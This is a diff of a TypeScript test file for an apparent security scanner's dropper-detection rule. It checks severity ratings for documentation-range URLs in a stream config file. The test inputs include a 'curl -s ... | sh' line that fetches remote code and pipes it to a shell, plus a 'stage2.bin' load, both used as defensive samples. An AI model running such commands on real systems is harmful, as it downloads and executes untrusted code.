@@ -442,6 +442,16 @@ describe('SG-DROPPER-003 documentation-range placeholders', () => {
     expect(sev('Load `http://203.0.113.7/stage2.bin` at start.')).toBe('HIGH');
     expect(sev(sh('curl http://198.51.100.4'))).toBe('CRITICAL');
   });
+
+  it('should cap a documentation-range media stream a recorder reads at MEDIUM, not a script or a fetch', () => {
+    const conf = (text: string) =>
+      findingsOf(text, 'scripts/streams.conf').find((f) => f.rule_id === 'SG-DROPPER-003')?.severity;
+    expect(conf('backup=http://198.51.100.24:8000/main.aac\n')).toBe('MEDIUM');
+    expect(conf('main=http://192.0.2.9/live/main/index.m3u8\n')).toBe('MEDIUM');
+    expect(conf('backup=http://198.51.100.24:8000/main.bin\n')).toBe('HIGH');
+    expect(conf('backup=http://45.33.12.7:8000/main.aac\n')).toBe('HIGH');
+    expect(sev(sh('curl -s http://198.51.100.24:8000/main.aac | sh'))).toBe('CRITICAL');
+  });
 });
 
 describe('SG-DROPPER-003 upstream of a proxy the user runs', () => {
